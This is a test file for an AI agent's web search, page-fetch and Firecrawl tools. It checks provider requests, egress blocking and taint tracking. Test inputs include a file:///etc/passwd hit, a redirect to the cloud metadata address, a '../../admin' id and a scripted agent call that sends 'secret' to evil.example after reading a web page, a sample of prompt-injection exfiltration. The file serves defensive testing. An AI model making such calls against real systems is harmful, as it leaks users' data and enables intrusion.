import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { text as bodyOf } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { OutsideTool } from '../../../src/agent/index.ts';
import { allSkills } from '../../../src/app/skills.ts';
import type { Skill, SkillDeps } from '../../../src/chat/index.ts';
import { Egress } from '../../../src/egress/index.ts';
import { Firecrawl, firecrawlTools } from '../../../src/skills/web/firecrawl.ts';
import { firecrawl, web } from '../../../src/skills/web/index.ts';
import { providersOf, Search } from '../../../src/skills/web/search/search.ts';
import { NAMES, PRIVATE } from '../../egress/spellings.ts';
import { play } from '../../support/play.ts';
import { ScriptedModel } from '../../support/scripted-model.ts';
import { testWorld } from '../../support/world.ts';
import { Internet } from './internet.ts';

/** What the service got, as strictly as the real ones read it. */
interface Got {
  method: string;
  path: string;
  query: Record<string, string>;
  headers: IncomingMessage['headers'];
  body: Record<string, unknown> | undefined;
}

let server: Server;
let base = '';
const got: Got[] = [];
let answer: (asked: Got) => { status?: number; body?: unknown; html?: string; location?: string };
const { signal } = new AbortController();

beforeAll(async () => {
  server = createServer(async (request, response) => {
    const url = new URL(request.url ?? '/', 'http://here');
    const raw = await bodyOf(request);
    const asked: Got = {
      method: request.method ?? '',
      path: url.pathname,
      query: Object.fromEntries(url.searchParams),
      headers: request.headers,
      body: raw === '' ? undefined : JSON.parse(raw),
    };
    got.push(asked);
    const { status = 200, body, html, location } = answer(asked);
    response.writeHead(status, {
      'content-type': html === undefined ? 'application/json' : 'text/html',
      ...(location && { location }),
    });
    response.end(html ?? JSON.stringify(body ?? {}));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
});
beforeEach(() => {
  got.length = 0;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

const egress = () =>
  new Egress({ ports: [80, 443], allow: [], resolve: async (host) => NAMES[host] ?? ['93.184.215.14'] });

type Settings = Parameters<typeof providersOf>[0];
async function searchBy(own: Partial<Settings>, query = 'how whales sleep', count = 3) {
  await using internet = await Internet.open();
  const settings: Settings = { duckduckgo: { enabled: false }, ...own };
  const search = new Search({
    providers: providersOf(settings, egress().allowingAll()),
    cache: internet.cache(),
    keepMs: 1_000,
  });
  return search.search(query, count, signal);
}

const HITS = [
  { title: 'Whales &amp; <b>sleep</b>', url: 'https://whales.example/', snippet: 'Upright &#8212; near the surface.' },
  { title: 'Twice', url: 'https://whales.example/', snippet: '' },
  { title: 'A file', url: 'file:///etc/passwd', snippet: '' },
];
const TIDY = [{ title: 'Whales & sleep', url: 'https://whales.example/', snippet: 'Upright — near the surface.' }];

describe('a search', () => {
  test('asks a SearXNG', async () => {
    answer = () => ({ body: { results: HITS.map(({ snippet, ...hit }) => ({ ...hit, content: snippet })) } });
    expect(await searchBy({ searxng: { base_url: `${base}/sub/` } })).toEqual({
      ok: true,
      provider: 'SearXNG',
      hits: TIDY,
    });
    expect(got).toMatchObject([
      { method: 'GET', path: '/sub/search', query: { q: 'how whales sleep', format: 'json' } },
    ]);
  });

  test('asks Brave, with the key in its header', async () => {
    answer = () => ({
      body: {
        web: { results: HITS.map(({ snippet, ...hit }) => ({ ...hit, description: snippet, age: '2 days ago' })) },
      },
    });
    expect(await searchBy({ brave: { api_key: 'k1', base_url: base } })).toMatchObject({
      provider: 'Brave Search',
      hits: [{ ...TIDY[0], published: '2 days ago' }],
    });
    expect(got).toMatchObject([
      {
        path: '/res/v1/web/search',
        query: { q: 'how whales sleep', count: '3' },
        headers: { 'x-subscription-token': 'k1' },
      },
    ]);
  });

  test('asks Tavily, with the key in its header', async () => {
    answer = () => ({ body: { results: HITS.map(({ snippet, ...hit }) => ({ ...hit, content: snippet })) } });
    expect(await searchBy({ tavily: { api_key: 'k2', base_url: base } })).toMatchObject({
      provider: 'Tavily',
      hits: TIDY,
    });
    expect(got).toMatchObject([
      {
        method: 'POST',
        path: '/search',
        headers: { authorization: 'Bearer k2' },
        body: { query: 'how whales sleep', max_results: 3 },
      },
    ]);
  });

  test('reads DuckDuckGo’s page, without its advertisements', async () => {
    const to = encodeURIComponent('https://whales.example/');
    answer = () => ({
      html: `<div class="result"><a rel="nofollow" class="result__a" href="https://duckduckgo.com/y.js?ad=1">Buy</a></div>
        <div class="result"><a rel="nofollow" class="result__a" href="//duckduckgo.com/l/?uddg=${to}&amp;rut=1">Whales &amp; <b>sleep</b></a>
        <a class="result__snippet" href="x">Upright &#8212; near the surface.</a></div>`,
    });
    const duckduckgo = { enabled: true, base_url: base };
    expect(await searchBy({ duckduckgo })).toEqual({ ok: true, provider: 'DuckDuckGo', hits: TIDY });
    answer = () => ({ html: '<div class="anomaly-modal__title">Unfortunately, bots use DuckDuckGo too.</div>' });
    expect(await searchBy({ duckduckgo })).toMatchObject({ ok: false, code: 'CAPTCHA' });
    answer = () => ({ html: '<div class="no-results">No results.</div>' });
    expect(await searchBy({ duckduckgo })).toMatchObject({ ok: true, hits: [] });
  });

  test('goes on to the next where one cannot answer, and tells what the first said if none can', async () => {
    answer = ({ path }) => (path === '/search' ? { body: { results: [] } } : { status: 401 });
    const both = { brave: { api_key: 'old', base_url: base }, tavily: { api_key: 'k', base_url: base } };
    expect(await searchBy(both)).toMatchObject({ ok: true, provider: 'Tavily' });
    answer = () => ({ status: 401 });
    expect(await searchBy(both)).toMatchObject({
      ok: false,
      code: 'AUTH_EXPIRED',
      message: 'Brave Search refuses to answer (401).',
    });
    expect(await searchBy({})).toMatchObject({ ok: false, code: 'NOT_CONFIGURED' });
  });

  test.each([
    [{ status: 429 }, 'RATE_LIMITED'],
    [{ status: 500 }, 'UNAVAILABLE'],
    [{ status: 302, location: 'http://169.254.169.254/' }, 'EGRESS_REDIRECTS'],
    [{ html: '<p>Hello' }, 'MALFORMED'],
    [{ body: { results: 'many' } }, 'MALFORMED'],
  ])('whose answer is %j fails by a name', async (given, code) => {
    answer = () => given;
    expect(await searchBy({ searxng: { base_url: base } })).toMatchObject({ ok: false, code });
  });
});

describe('Firecrawl', () => {
  const tools = () =>
    firecrawlTools({
      firecrawl: new Firecrawl({ api_key: 'fc', base_url: base }, egress().allowingAll()),
      egress: egress(),
    });
  const call = async (name: string, input: Record<string, unknown>) => {
    const tool = tools().find((one) => one.name === name) as OutsideTool<unknown>;
    return tool.run(tool.input.parse(input), { signal } as never);
  };
  const page = (n: number) => ({
    markdown: `# Page ${n}`,
    metadata: { title: `P${n}`, sourceURL: `https://docs.example/${n}` },
  });

  test('reads a page', async () => {
    answer = () => ({ body: { success: true, data: page(1) } });
    expect(await call('firecrawl_scrape', { url: 'docs.example/1' })).toMatchObject({
      ok: true,
      tainted: true,
      material: 'truncated: false\n\nTitle: P1\nURL: https://docs.example/1\n\n# Page 1',
    });
    expect(got).toMatchObject([
      {
        path: '/v2/scrape',
        headers: { authorization: 'Bearer fc' },
        body: { url: 'https://docs.example/1', formats: ['markdown'] },
      },
    ]);
  });

  test('searches, and lists a site, in both versions of its answers', async () => {
    const web = [{ title: 'Whales', url: 'https://whales.example/', description: 'Upright.' }];
    for (const data of [web, { web }]) {
      answer = () => ({ body: { success: true, data } });
      expect(await call('firecrawl_search', { query: 'whales' })).toMatchObject({
        material: expect.stringContaining('Upright.'),
      });
    }
    for (const links of [['https://docs.example/a'], [{ url: 'https://docs.example/a', title: '' }]]) {
      answer = () => ({ body: { success: true, links } });
      const mapped = await call('firecrawl_map', { url: 'https://docs.example', search: 'a', limit: 1 });
      expect(mapped).toMatchObject({ material: 'truncated: true\nhttps://docs.example/a' });
    }
    expect(got.at(-1)).toMatchObject({ path: '/v2/map', body: { url: 'https://docs.example', search: 'a', limit: 1 } });
  });

  test('reads a site in the end, and says when there is more of it', async () => {
    let looks = 0;
    answer = ({ method }) => {
      if (method === 'POST') return { body: { success: true, id: 'job-1' } };
      return {
        body:
          ++looks < 2 ? { status: 'scraping', data: [] } : { status: 'completed', total: 7, data: [page(1), page(2)] },
      };
    };
    const asked = { url: 'https://docs.example', include_paths: ['docs/.*'], exclude_paths: ['blog/.*'], limit: 2 };
    const crawled = await call('firecrawl_crawl', asked);
    expect(crawled).toMatchObject({ ok: true, tainted: true, text: 'Read 2 of 7 pages of docs.example.' });
    expect(crawled).toMatchObject({ material: expect.stringMatching(/^truncated: true\n\nTitle: P1[\s\S]*# Page 2$/) });
    expect(got[0]?.body).toMatchObject({ includePaths: ['docs/.*'], excludePaths: ['blog/.*'], limit: 2 });
    expect(got.at(-1)?.path).toBe('/v2/crawl/job-1');
    answer = ({ method }) => ({ body: method === 'POST' ? { id: 'job-2' } : { status: 'failed' } });
    expect(await call('firecrawl_crawl', asked)).toMatchObject({ ok: false, code: 'UNAVAILABLE' });
    answer = () => ({ body: { id: '../../admin' } });
    expect(await call('firecrawl_crawl', asked)).toMatchObject({ ok: false, code: 'MALFORMED' });
  });

  test('is told of no private address', async () => {
    answer = () => ({ body: { success: true, data: page(1), links: [], id: 'x', status: 'completed' } });
    for (const host of PRIVATE) {
      for (const name of ['firecrawl_scrape', 'firecrawl_map', 'firecrawl_crawl']) {
        expect(await call(name, { url: `http://${host}/` }), host).toMatchObject({ ok: false });
      }
    }
    expect(got).toEqual([]);
  });
});

describe('in a conversation', () => {
  test('a page that was asked for is read, shown in pieces, and taints what follows', async () => {
    await using internet = await Internet.open();
    internet.serve(
      '/whales',
      `<title>Whales</title><main><p>${'Whales sleep upright. '.repeat(600)}</p><p>The answer is blubber.</p></main>`,
    );
    const url = internet.at('/whales', '127.0.0.22');
    const model = new ScriptedModel(
      [{ call: 'web_fetch', input: { url } }],
      (request) => {
        const { handle, from } = JSON.parse(
          /result_read ({.*})/.exec(request.messages.at(-1)?.text ?? '')?.[1] ?? '{}',
        );
        return [
          { call: 'result_read', input: { handle, from } },
          { call: 'web_fetch', input: { url, find: 'BLUBBER' } },
        ];
      },
      ['Upright.'],
      [{ call: 'web_fetch', input: { url: 'https://evil.example/?q=secret' } }],
      ['Done.'],
    );
    const config = { 'egress.i_understand_private': [{ network: '127.0.0.22/32', port: internet.port }] };
    await using coda = await play({ model, config });
    const ana = coda.person('ana');
    expect(await ana.says(`how do whales sleep? see ${url}`)).toBe('Upright.');
    const results = (n: number) =>
      model.requests[n]?.messages.filter(({ role }) => role === 'tool').map(({ text }) => text) ?? [];
    expect(results(1)[0]).toMatch(/^Read “Whales”[\s\S]*Title: Whales\nURL: /);
    expect(results(2)[1]).toContain('blubber');
    expect(results(2)[2]).toContain('stands in one place');
    expect(internet.requests).toHaveLength(1);
    // What the page made the model want is asked.
    expect(await ana.says('go on')).toContain('May I do this? **Read the web page `');
  });

  test('without web there are no tools for it, and Firecrawl’s only where it is configured', () => {
    const offered = (skill: Skill, given: unknown) => {
      const config = skill.config?.schema.parse(given);
      const deps = {
        config,
        egress: egress(),
        world: testWorld(),
        storage: {},
        onClose: () => {},
      } as unknown as SkillDeps;
      return skill.tools?.(deps, allSkills([])).map(({ name }) => name);
    };
    expect(offered(web, { enabled: false })).toEqual([]);
    expect(offered(web, { search: { duckduckgo: { enabled: false } } })).toEqual(['web_fetch']);
    expect(offered(web, {})).toEqual(['web_fetch', 'web_search']);
    expect(offered(firecrawl, {})).toEqual([]);
    expect(offered(firecrawl, { base_url: 'http://localhost:3002' })).toHaveLength(4);
  });
});
